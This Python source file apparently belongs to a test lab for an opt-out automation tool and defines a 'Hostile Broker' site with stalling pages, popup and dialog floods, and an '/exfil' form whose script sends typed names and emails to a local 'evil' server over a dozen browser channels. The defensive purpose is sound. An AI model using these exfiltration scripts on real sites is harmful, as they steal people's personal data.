"""Hostile Broker: pages that attack or stall the client, and an "evil" server they try to feed.

Each page is one behaviour a real site may show, on purpose or by accident; optout must bound each
one (a timeout, a guard), end the case with a reason a person can act on, and go on with the rest:

- ``/never``: accepts the connection and never answers;
- ``/huge``: an endless page (stops after ``HUGE_CAP`` bytes);
- ``/loop``: redirects to itself forever; ``/away``: redirects to ``evil.lab.test`` (the lab's sink);
- ``/dialogs``: alert/confirm/prompt without end; ``/popups``: window.open without end;
- ``/download``: answers with a file download instead of a page;
- ``/exfil``: an opt-out form whose script sends what is typed into it to the evil host by every
  road a page has (fetch, XHR, sendBeacon, an image, a WebSocket, EventSource, a service worker,
  a SharedWorker, a dedicated Worker, base64 and JSON-escaped bodies, a header, and at last the
  form itself, posted there; ``/exfil-form``: a plain form whose action is the evil host (for the
  http channel, which runs no script);
- ``/wall``: a Cloudflare-style "Just a moment..." challenge (403); ``/busy``: 429 with
  ``Retry-After: 86400``;
- ``/pings``: a well-behaved opt-out form on a page that, like every real site, pings analytics
  hosts (the evil host) with nothing of the person's: blocked quietly, the case goes through.

The **evil host** is a real second HTTP server on another loopback port (``EvilServer``), not the
lab's proxy sink: browsers reach loopback addresses directly, bypassing the proxy, so only optout's
own egress guard stands between a page and it. (Playwright sends loopback traffic through the proxy
too; the lab hands requests for the evil server's port to it, as a forward proxy would.) It records every request and WebSocket (method,
path, body size); tests assert it received nothing.
"""

from __future__ import annotations

import asyncio
import datetime as dt
from html import escape

from aiohttp import WSMsgType, web

from optout.lab.sites.base import Site
from optout.lab.sites.listings import Listing

HUGE_CAP = 64 * 1024 * 1024


class EvilServer:
    """A catch-all HTTP + WebSocket server on 127.0.0.1 that counts what reaches it."""

    def __init__(self) -> None:
        self.received: list[dict] = []
        self.url: str | None = None
        self._runner: web.AppRunner | None = None

    async def start(self) -> None:
        app = web.Application()
        app.router.add_route("*", "/{tail:.*}", self.handle)
        self._runner = web.AppRunner(app, access_log=None, shutdown_timeout=1)
        await self._runner.setup()
        await web.TCPSite(self._runner, "127.0.0.1", 0).start()
        self.url = f"http://127.0.0.1:{self._runner.addresses[0][1]}"

    async def stop(self) -> None:
        if self._runner:
            await self._runner.cleanup()
            self._runner = None

    async def handle(self, request: web.Request) -> web.StreamResponse:
        record = {"time": dt.datetime.now(dt.UTC).isoformat(), "method": request.method, "path": request.path,
                  "query_size": len(request.query_string), "body_size": 0, "websocket": False}
        self.received.append(record)
        if request.headers.get("Upgrade", "").lower() == "websocket":
            record["websocket"] = True
            ws = web.WebSocketResponse()
            await ws.prepare(request)
            async for msg in ws:
                if msg.type in (WSMsgType.TEXT, WSMsgType.BINARY):
                    record["body_size"] += len(msg.data)
            return ws
        record["body_size"] = len(await request.read())
        return web.Response(text="thanks", headers={"Access-Control-Allow-Origin": "*"})


class Hostile(Site):
    id = "hostile"
    name = "Hostile Broker"
    behaviours = (
        "never answers", "endless page", "endless redirects", "redirect to another host",
        "endless dialogs", "endless popups", "file download", "sends the form to another host",
    )
    optout_path = "/exfil"
    decoys = False

    def __init__(self, lab):
        super().__init__(lab)
        self.evil = EvilServer()
        self._stopping = asyncio.Event()
        self.received_forms = 0  # real opt-out forms posted to this broker
        self.walls = 0  # answers from /wall and /busy

    async def start(self) -> None:
        self._stopping = asyncio.Event()
        await self.evil.start()
        assert self.evil.url
        self.lab.loopback[int(self.evil.url.rsplit(":", 1)[1])] = self.evil.handle

    async def stop(self) -> None:
        self._stopping.set()
        await self.evil.stop()

    def reset(self) -> None:
        super().reset()
        self.evil.received.clear()
        self.received_forms = 0
        self.walls = 0

    def render_listing(self, listing: Listing) -> str:  # no search: opt-out pages only
        return ""

    def routes(self) -> list[web.RouteDef]:
        return [
            web.get("/", self.home),
            web.get("/never", self.never),
            web.get("/huge", self.huge),
            web.get("/loop", self.loop),
            web.get("/away", self.away),
            web.get("/dialogs", self.dialogs),
            web.get("/popups", self.popups),
            web.get("/download", self.download),
            web.get("/exfil", self.exfil),
            web.get("/exfil-form", self.exfil_form),
            web.get("/sw.js", self.service_worker),
            web.get("/shared-worker.js", self.worker_script),
            web.get("/worker.js", self.worker_script),
            web.get("/pings", self.pings),
            web.get("/onchange", self.onchange),
            web.get("/wall", self.wall),
            web.get("/busy", self.busy),
            web.post("/optout", self.optout),
        ]

    async def home(self, request: web.Request) -> web.Response:
        links = "".join(f'<li><a href="{p}">{p}</a></li>' for p in
                        ("/never", "/huge", "/loop", "/away", "/dialogs", "/popups", "/download", "/exfil"))
        return self.page("Hostile Broker", f"<h1>Hostile Broker</h1><ul>{links}</ul>")

    async def never(self, request: web.Request) -> web.Response:
        # hold the connection until the client gives up (or the lab stops)
        await self._stopping.wait()
        return web.Response(status=503)

    async def huge(self, request: web.Request) -> web.StreamResponse:
        resp = web.StreamResponse(headers={"Content-Type": "text/html; charset=utf-8"})
        await resp.prepare(request)
        await resp.write(b"<!doctype html><html><body><ul>")
        chunk = b"<li>" + b"x" * 1000 + b"</li>\n"
        sent = 0
        try:
            while sent < HUGE_CAP and not self._stopping.is_set():
                await resp.write(chunk * 64)
                sent += len(chunk) * 64
        except (ConnectionResetError, asyncio.CancelledError):
            raise
        return resp

    async def loop(self, request: web.Request) -> web.Response:
        n = int(request.query.get("n", "0") or 0) + 1
        raise web.HTTPFound(f"/loop?n={n}")

    async def away(self, request: web.Request) -> web.Response:
        # to a host name (not the evil server's loopback address) so that the lab's sink records it
        raise web.HTTPFound(f"http://evil.lab.test/stolen?{request.query_string}")

    async def dialogs(self, request: web.Request) -> web.Response:
        script = ("document.addEventListener('DOMContentLoaded', () => { for (;;) { alert('Are you sure?');"
                  " confirm('Really?'); prompt('Your SSN please'); } });")
        return self.page("Please confirm", "<h1>Please confirm</h1>", script=script)

    async def popups(self, request: web.Request) -> web.Response:
        script = "setInterval(() => { for (let i = 0; i < 5; i++) window.open('/popups', '_blank'); }, 20);"
        return self.page("Special offers", "<h1>Special offers</h1>", script=script)

    async def download(self, request: web.Request) -> web.Response:
        return web.Response(body=b"OPTOUT-DOWNLOAD-MARKER " * 100, content_type="application/octet-stream",
                            headers={"Content-Disposition": 'attachment; filename="your-data.bin"'})

    def _form(self, action: str) -> str:
        return (
            f'<h1>Opt out</h1><form id="optout-form" method="post" action="{escape(action, quote=True)}">'
            + self.text_field("name", "Full name")
            + self.text_field("email", "Email", "email")
            + '<button type="submit">Remove me</button></form>'
        )

    async def exfil(self, request: web.Request) -> web.Response:
        evil = self.evil.url
        ws = (evil or "").replace("http://", "ws://")
        script = f"""
navigator.serviceWorker && navigator.serviceWorker.register('/sw.js').catch(() => {{}});
document.getElementById('optout-form').addEventListener('submit', (ev) => {{
  ev.preventDefault();
  const form = ev.target, data = new FormData(form), text = new URLSearchParams(data).toString();
  const tries = [
    () => fetch('{evil}/fetch', {{method: 'POST', body: text, mode: 'no-cors'}}),
    () => {{ const x = new XMLHttpRequest(); x.open('POST', '{evil}/xhr'); x.send(text); }},
    () => navigator.sendBeacon('{evil}/beacon', text),
    () => {{ new Image().src = '{evil}/pixel?' + text; }},
    () => {{ const s = new WebSocket('{ws}/ws'); s.onopen = () => s.send(text); }},
    () => {{ new EventSource('{evil}/events?' + text); }},
    () => {{ const f = document.createElement('iframe'); f.src = '{evil}/frame?' + text; document.body.appendChild(f); }},
    () => {{ const l = document.createElement('link'); l.rel = 'prefetch'; l.href = '{evil}/prefetch?' + text;
             document.head.appendChild(l); }},
    () => {{ const w = new SharedWorker('/shared-worker.js'); w.port.postMessage(text); }},
    () => {{ const w = new Worker('/worker.js'); w.postMessage(text); }},
    () => fetch('{evil}/b64', {{method: 'POST', body: btoa(unescape(encodeURIComponent(text))), mode: 'no-cors'}}),
    () => fetch('{evil}/json', {{method: 'POST', mode: 'no-cors',
                                 body: JSON.stringify(Object.fromEntries(data)).replace(/[\u007f-\uffff]/g,
                                   c => '\\\\u' + c.charCodeAt(0).toString(16).padStart(4, '0'))}}),
    () => fetch('{evil}/header', {{headers: {{'X-Visitor': btoa(unescape(encodeURIComponent(text)))}}}}),
  ];
  for (const t of tries) {{ try {{ t(); }} catch (e) {{}} }}
  // last, once the other roads had time to leave (a navigation cancels what is in flight)
  setTimeout(() => {{ form.action = '{evil}/form'; form.submit(); }}, 1500);
}});
"""
        return self.page("Opt out", self._form("/optout"), script=script)

    async def worker_script(self, request: web.Request) -> web.Response:
        # a SharedWorker hears on a port, a dedicated Worker on itself: both post what they get
        road = "shared-worker" if request.path.startswith("/shared") else "worker"
        body = (f"const send = t => fetch('{self.evil.url}/{road}?' + t);"
                "self.onconnect = e => { e.ports[0].onmessage = m => send(m.data); };"
                "self.onmessage = m => send(m.data);")
        return web.Response(text=body, content_type="application/javascript")

    async def pings(self, request: web.Request) -> web.Response:
        evil = self.evil.url
        script = f"""
const hit = {{event: 'pageview', page: location.pathname, t: Date.now()}};
navigator.sendBeacon('{evil}/collect', JSON.stringify(hit));
fetch('{evil}/perf', {{method: 'POST', body: 'lcp=1200&cls=0.01', mode: 'no-cors'}}).catch(() => {{}});
new Image().src = '{evil}/pixel.gif?ev=view&sid=' + Math.random().toString(36).slice(2);
document.getElementById('optout-form').addEventListener('submit', () => {{
  navigator.sendBeacon('{evil}/collect', JSON.stringify({{event: 'form_submit', form: 'optout-form'}}));
}});
"""
        return self.page("Opt out", self._form("/optout"), script=script)

    async def onchange(self, request: web.Request) -> web.Response:
        """An opt-out form that sends itself when a field changes, as many real forms do: ``how=submit``
        a list whose ``onchange`` submits the form (a navigation), ``how=fetch`` a tick box whose change
        posts the form with ``fetch`` (a request, no navigation), ``how=none`` neither (the control).
        What the page sent is counted in ``received_forms``, as the submit button's."""
        how = request.query.get("how", "none")
        on_list = ' onchange="this.form.submit()"' if how == "submit" else ""
        script = ("document.getElementById('agree').addEventListener('change', () => fetch('/optout', "
                  "{method: 'POST', body: new FormData(document.getElementById('optout-form'))}));"
                  if how == "fetch" else "")
        body = (f'<h1>Opt out</h1><form id="optout-form" method="post" action="/optout">'
                + self.text_field("name", "Full name") + self.text_field("email", "Email", "email")
                + f'<label for="why">Reason</label><select id="why" name="why"{on_list}>'
                '<option value="">Choose</option><option value="privacy">Privacy</option></select>'
                '<label><input type="checkbox" id="agree" name="agree" value="yes"> I am this person</label>'
                '<button type="submit">Remove me</button></form>')
        return self.page("Opt out", body, script=script)

    async def wall(self, request: web.Request) -> web.Response:
        # a bot-protection challenge in place of the page, as Cloudflare serves it (403)
        self.walls += 1
        body = ("<!DOCTYPE html><html lang=\"en-US\"><head><title>Just a moment...</title></head><body>"
                "<noscript>Enable JavaScript and cookies to continue</noscript>"
                "<script>window._cf_chl_opt={cType: 'managed'};</script></body></html>")
        return web.Response(status=403, text=body, content_type="text/html")

    async def busy(self, request: web.Request) -> web.Response:
        # come back tomorrow: a Retry-After no worker should sleep through
        self.walls += 1
        return web.Response(status=429, text="Too many requests", headers={"Retry-After": "86400"})

    async def exfil_form(self, request: web.Request) -> web.Response:
        return self.page("Opt out", self._form(f"{self.evil.url}/form"))

    async def service_worker(self, request: web.Request) -> web.Response:
        body = (f"self.addEventListener('fetch', e => {{ fetch('{self.evil.url}/sw?' + e.request.url); }});"
                f"fetch('{self.evil.url}/sw-installed');")
        return web.Response(text=body, content_type="application/javascript")

    async def optout(self, request: web.Request) -> web.Response:
        await request.post()
        self.received_forms += 1
        return self.message("Received", "Request received")
